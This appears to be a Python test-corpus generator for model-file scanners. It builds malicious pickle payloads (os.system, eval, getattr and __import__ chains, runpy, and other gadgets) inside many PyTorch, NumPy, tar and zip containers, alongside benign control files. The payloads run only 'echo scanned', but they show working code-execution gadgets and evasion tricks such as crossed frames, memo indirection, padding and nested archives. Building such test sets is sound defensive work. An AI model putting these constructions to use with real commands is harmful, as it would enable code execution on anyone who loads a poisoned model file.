"""A corpus for scanners: kinds of attacks in kinds of containers, and honest files.

Every attack runs a harmless command, and only if somebody loads the file. `build` writes the files and
returns what each of them is.
"""

import gzip
import io
import pickle
import struct
import tarfile
import zipfile

import numpy
import torch

MARK = "echo scanned"


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def name(module, attribute):
    return f"c{module}\n{attribute}\n".encode()


def call(module, attribute, *arguments):
    return name(module, attribute) + b"(" + b"".join(map(text, arguments)) + b"tR"


def crossed():
    """A frame whose end a BINBYTES crosses: the call stands in the bytes to who ignores frames."""
    body = name("os", "system") + b"(" + text(MARK) + b"tR0N."
    return (b"\x80\x04N0(\x95\x02" + bytes(7) + b"B" + bytes([len(body)]) + b"\x01\0\0\0\0" + body
            + b"N" * 256 + b"1N.")


# Kind of attack -> the pickle.
ATTACKS = {
    "os.system": b"\x80\x02" + call("os", "system", MARK) + b".",
    "builtins.eval": b"\x80\x02" + call("__builtin__", "eval", "print(1)") + b".",
    "STACK_GLOBAL": b"\x80\x04" + text("os") + text("system") + b"\x93(" + text(MARK) + b"tR.",
    "INST": b"(" + b"V" + MARK.encode() + b"\nios\nsystem\n.",
    "name through the memo": (
        b"\x80\x02" + text("system") + b"q\x070" + text("os") + b"h\x07\x93(" + text(MARK) + b"tR."),
    "protocol 0 behind 70 kB": b"V" + b"a" * 70_000 + b"\n0" + name("os", "system") + b"(Vid\ntR.",
    "I0x10 in front": b"I0x10\n0" + name("os", "system") + b"(Vid\ntR.",
    "1,001 of them": b"I0x10\n0" * 1001 + name("os", "system") + b"(Vid\ntR.",
    "crossed frame": crossed(),
    "breaks off after the call": b"\x80\x02" + call("os", "system", MARK),
    "getattr chain": (
        b"\x80\x02" + name("__builtin__", "getattr") + b"(" + call("__builtin__", "__import__", "os")
        + text("system") + b"tR(" + text(MARK) + b"tR."),
    "dotted name": b"\x80\x04" + text("torch") + text("serialization.os.system") + b"\x93("
    + text(MARK) + b"tR.",
    "runpy": b"\x80\x02" + call("runpy", "run_path", "x.py") + b".",
    "numpy.load": b"\x80\x02" + call("numpy", "load", "x.npy") + b".",
    "dataclasses._create_fn": b"\x80\x02" + call("dataclasses", "_create_fn", "f", "", "") + b".",
    "typing._eval_type": b"\x80\x02" + call("typing", "_eval_type", "x") + b".",
    "sympy lambdify": b"\x80\x02" + call("sympy.utilities.lambdify", "lambdify", "", "1") + b".",
    "mailcap.findmatch": b"\x80\x02" + call("mailcap", "findmatch", "x", "y") + b".",
    "pipes.Template": b"\x80\x02" + name("pipes", "Template") + b")R.",
    "unknown function": b"\x80\x02" + call("app.tools", "run_it", MARK) + b".",
    "BUILD of a class": b"\x80\x02" + name("torch", "Tensor") + b"N}" + text("x")
    + name("os", "getcwd") + b"s\x86b.",
}

HARMLESS = pickle.dumps({"w": [1, 2, 3]}, 2)


def torch_zip(data_pkl, **entries):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/version", "3\n")
        for entry, data in entries.items():
            archive.writestr(f"archive/{entry}", data)
    return output.getvalue()


def legacy(data_pkl, protocol=2):
    magic = pickle.dumps(0x1950a86a20f9469cfc6c, protocol)
    version = pickle.dumps(1001, protocol)
    system = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, protocol)
    return magic + version + system + data_pkl + pickle.dumps([], protocol)


def tar(**members):
    output = io.BytesIO()
    with tarfile.open(fileobj=output, mode="w") as archive:
        for member, data in members.items():
            entry = tarfile.TarInfo(member)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return output.getvalue()


def npy(data):
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def zipped(entry, data, method=zipfile.ZIP_STORED):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", method) as archive:
        archive.writestr(entry, data)
    return output.getvalue()


def flagged(data):
    """The encryption bit in every header, which torch ignores."""
    data = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(mark, place + 1)
    return bytes(data)


def safetensors(data):
    header = b'{"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(data), len(data))
    return struct.pack("<Q", len(header)) + header + data


# Kind of container -> the suffix, and the file around a pickle.
CONTAINERS = {
    "bare pickle": (".pkl", lambda data: data),
    "torch.save": (".pt", torch_zip),
    "torch.save, second entry": (".pt", lambda data: torch_zip(HARMLESS, **{"extra.pkl": data})),
    "torch.save, entry .txt": (".pt", lambda data: torch_zip(HARMLESS, **{"notes.txt": data})),
    "torch.save, encryption bit": (".pt", lambda data: flagged(torch_zip(data))),
    "torch.save, deflated": (".pt", lambda data: zipped("archive/data.pkl", data, zipfile.ZIP_DEFLATED)),
    "archive in an archive": (".zip", lambda data: zipped("inner.pt", torch_zip(data))),
    "before PyTorch 1.6": (".pt", legacy),
    "before 1.6, protocol 0 headers": (".pt", lambda data: legacy(data, 0)),
    "tar of PyTorch 0.1": (".pt", lambda data: tar(
        storages=pickle.dumps(0, 2), tensors=pickle.dumps(0, 2), pickle=data)),
    "tar, behind raw data": (".pt", lambda data: tar(
        storages=pickle.dumps(1, 2) + struct.pack("<q", 4) + bytes(16) + data,
        tensors=pickle.dumps(0, 2), pickle=HARMLESS)),
    "array of objects": (".npy", npy),
    "archive of arrays": (".npz", lambda data: zipped("a.npy", npy(data))),
    "gzip": (".pkl.gz", gzip.compress),
    "behind a pickle": (".pkl", lambda data: HARMLESS + data),
    "before an archive": (".pt", lambda data: data + torch_zip(HARMLESS)),
}


def honest():
    """Files that run nothing, by name."""
    random = numpy.random.default_rng(7)
    state = {"w": torch.ones(3, 4), "step": 1}

    def save(value, **options):
        output = io.BytesIO()
        torch.save(value, output, **options)
        return output.getvalue()

    packed = {f"expert.{number}": torch.from_numpy(random.integers(0, 256, 512, numpy.uint8))
              for number in range(64)}
    buffer = io.BytesIO()
    numpy.savez(buffer, a=numpy.arange(5.0), b=numpy.zeros((2, 2)))
    model = torch.nn.Sequential(torch.nn.Linear(3, 4), torch.nn.BatchNorm1d(4))
    return {
        "state.pt": save(state),
        "state-legacy.pt": save(state, _use_new_zipfile_serialization=False),
        "state-protocol-4.pt": save(state, pickle_protocol=4),
        "module.pt": save(model),
        "module-legacy.pt": save(model, _use_new_zipfile_serialization=False),
        "optimizer.pt": save(torch.optim.Adam(model.parameters()).state_dict()),
        "packed.pt": save(packed),
        "random.pkl": pickle.dumps({"state": numpy.random.RandomState(1), "x": numpy.arange(4)}, 4),
        "deflated.pt": zipped("archive/data.pkl", pickle.dumps({"x": bytes(1_200_000)}, 2),
                              zipfile.ZIP_DEFLATED),
        "plain.safetensors": safetensors(bytes(random.integers(0, 256, 4096, numpy.uint8))),
        "arrays.npz": buffer.getvalue(),
        "files.tar": tar(**{"readme.txt": b"text\n", "state.pt": save(state)}),
        "package.pt": torch_zip(HARMLESS, **{
            ".data/extern_modules": b"collections\nos\nsys\ntorch\n", "model/model.pkl": HARMLESS}),
        "README.md": b"# A model\n", "__init__.py": b"", "config.json": b"{}\n",
        "modules.txt": b"collections\nos\nsubprocess\n",
    }


def build(folder):
    """Writes the corpus; returns (file, kind of attack, kind of container), and the honest files."""
    attacks = []
    for (attack, data), (container, (suffix, wrap)) in (
            (left, right) for left in ATTACKS.items() for right in CONTAINERS.items()):
        path = folder / "attacks" / f"{len(attacks):04}{suffix}"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(wrap(data))
        attacks.append((path, attack, container))
    files = []
    for file, data in honest().items():
        path = folder / "honest" / file
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        files.append(path)
    return attacks, files
